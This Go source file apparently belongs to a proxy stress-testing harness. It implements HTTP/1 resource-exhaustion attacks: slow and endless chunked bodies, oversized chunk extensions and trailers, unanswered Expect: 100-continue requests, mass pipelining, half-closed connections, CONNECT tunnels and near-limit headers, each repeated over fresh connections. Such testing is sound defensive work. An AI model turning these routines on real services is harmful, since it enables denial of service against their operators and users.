package front

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// What strangers send in HTTP/1 that has a form which servers accept, and in which a request
// is cheap for its client and may be dear for a proxy. Each of these goes on for as long as the
// attack, with a new connection when the proxy closes one.

// bursts sends what text returns after each pause, on one connection after another, and reads
// nothing. half ends the connection's direction to the proxy after each.
func (a *Attack) bursts(ctx context.Context, text func() string, perConnection int, half bool) error {
	open := func() (*net.TCPConn, error) {
		c, err := a.dial(ctx)
		if err == nil {
			_, err = io.WriteString(c, text())
		}
		if err == nil && half {
			err = c.CloseWrite()
		}
		return c, err
	}
	c, err := open()
	if err != nil {
		return err
	}
	n := 1
	go a.paced(ctx, func() error {
		if n++; n <= perConnection {
			_ = c.SetWriteDeadline(time.Now().Add(a.Pause))
			if _, err := io.WriteString(c, text()); err == nil {
				return nil
			}
		}
		_ = c.Close()
		if next, err := open(); err == nil {
			c, n = next, 1
		}
		return ctx.Err() // a proxy that takes no connection now may take one later
	})
	return nil
}

func (a *Attack) head(method, target, more string) string {
	return method + " " + target + " HTTP/1.1\r\nHost: " + a.Target + "\r\n" + more + "\r\n"
}

// forever is how many bursts a connection takes that never ends by itself.
const forever = 1 << 30

// begun returns a text that is head at first on a connection, and again behind it.
func begun(head, again string) func() string {
	first := true
	return func() string {
		if first {
			first = false
			return head
		}
		return again
	}
}

const chunked = "Transfer-Encoding: chunked\r\n"

// chunkExtensions sends chunks of a byte, each with a long extension.
func (a *Attack) chunkExtensions(ctx context.Context) error {
	chunk := "1;x=" + strings.Repeat("e", 3000) + "\r\nx\r\n"
	return a.bursts(ctx, func() string { return a.head("POST", "/work", chunked) + strings.Repeat(chunk, 5) }, 1, false)
}

// smallChunks sends a body without end in chunks of a byte.
func (a *Attack) smallChunks(ctx context.Context) error {
	return a.bursts(ctx, begun(a.head("POST", "/work", chunked), strings.Repeat("1\r\nx\r\n", 100)), forever, false)
}

// chunkedSilence begins a body of unknown length, says nothing more, and begins another one.
func (a *Attack) chunkedSilence(ctx context.Context) error {
	return a.bursts(ctx, func() string { return a.head("POST", "/work", chunked) + "1\r\nx\r\n" }, 1, false)
}

// expect asks whether it may send a body, and never does.
func (a *Attack) expect(ctx context.Context) error {
	return a.bursts(ctx, func() string { return a.head("POST", "/work", "Expect: 100-continue\r\nContent-Length: 10\r\n") }, 1, false)
}

// trailers ends a body with fields, as many as fit.
func (a *Attack) trailers(ctx context.Context) error {
	text := a.head("POST", "/work", chunked+"Trailer: X-A\r\n") + "1\r\nx\r\n0\r\n" + strings.Repeat("X-A: "+strings.Repeat("t", 100)+"\r\n", 200)
	return a.bursts(ctx, func() string { return text }, 1, false)
}

// pipeline sends a thousand requests at once and reads no answer.
func (a *Attack) pipeline(ctx context.Context) error {
	return a.bursts(ctx, func() string { return strings.Repeat(a.head("GET", "/nothing", ""), 1000) }, forever, false)
}

// leaves asks and is gone.
func (a *Attack) leaves(ctx context.Context) error {
	return a.bursts(ctx, func() string { return a.head("GET", "/work", "") }, 1, false)
}

// halfClosed asks and ends its direction.
func (a *Attack) halfClosed(ctx context.Context) error {
	return a.bursts(ctx, func() string { return a.head("GET", "/work", "") }, 1, true)
}

// connect asks for tunnels, and for what is elsewhere.
func (a *Attack) connect(ctx context.Context) error {
	return a.bursts(ctx, func() string {
		return "CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n" + a.head("GET", "http://example.com/nothing", "")
	}, 10, false)
}

// upgrade has a connection upgraded and says nothing on it.
func (a *Attack) upgrade(ctx context.Context) error {
	return a.say(ctx, a.head("GET", "/upgrade", "Connection: Upgrade\r\nUpgrade: nothing\r\n"), "")
}

// longHeader asks with a target and fields of 18 kB, which is within the limits.
func (a *Attack) longHeader(ctx context.Context) error {
	text := a.head("GET", "/"+strings.Repeat("u", 8000), strings.Repeat("X-"+strings.Repeat("n", 20)+": v\r\n", 400))
	return a.bursts(ctx, func() string { return text }, 1, false)
}

// names asks by another host, method and path each time.
func (a *Attack) names(ctx context.Context) error {
	n := 0
	return a.bursts(ctx, func() string {
		n++
		return fmt.Sprintf("M%d /nothing/%d HTTP/1.1\r\nHost: h%d.example\r\nUser-Agent: agent%d\r\n\r\n", n, n, n, n)
	}, 10, false)
}
